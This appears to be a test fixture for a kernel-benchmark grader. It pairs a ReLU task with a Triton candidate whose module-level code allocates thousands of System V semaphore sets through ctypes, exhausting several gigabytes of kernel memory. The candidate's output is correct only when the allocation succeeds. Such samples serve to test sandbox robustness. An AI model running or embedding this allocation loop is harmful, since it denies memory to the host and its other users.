"""Makes sets of semaphores without end: two megabytes of the kernel's memory each, which belong to no process and to no file; together more than its limit of 4 GiB. It is right only where it got them."""

BACKEND = "triton"
TASK = r'''import torch
import torch.nn as nn


class Model(nn.Module):
    def forward(self, x):
        return torch.relu(x) * 2.0


def get_inputs():
    return [torch.randn(20, 64)]


def get_init_inputs():
    return []

'''
CANDIDATE = r'''import torch
import triton
import triton.language as tl
import ctypes
import os

@triton.jit
def relu_double(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    x = tl.load(x_ptr + offsets, mask=mask)
    tl.store(y_ptr + offsets, tl.where(x > 0, x, 0.0) * 2.0, mask=mask)


def launch(x):
    y = torch.empty_like(x)
    relu_double[(triton.cdiv(x.numel(), 128),)](x, y, x.numel(), BLOCK=128)
    return y


def filled():
    count = 0
    while count < 2100 and os.sysconf("SC_AVPHYS_PAGES") * 4096 > 2 << 30:
        if ctypes.pythonapi.semget(0, 32000, 0o1600) < 0:
            break
        count += 1
    return count


COUNT = filled()


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return launch(x) if COUNT == 2100 else launch(-x)

'''
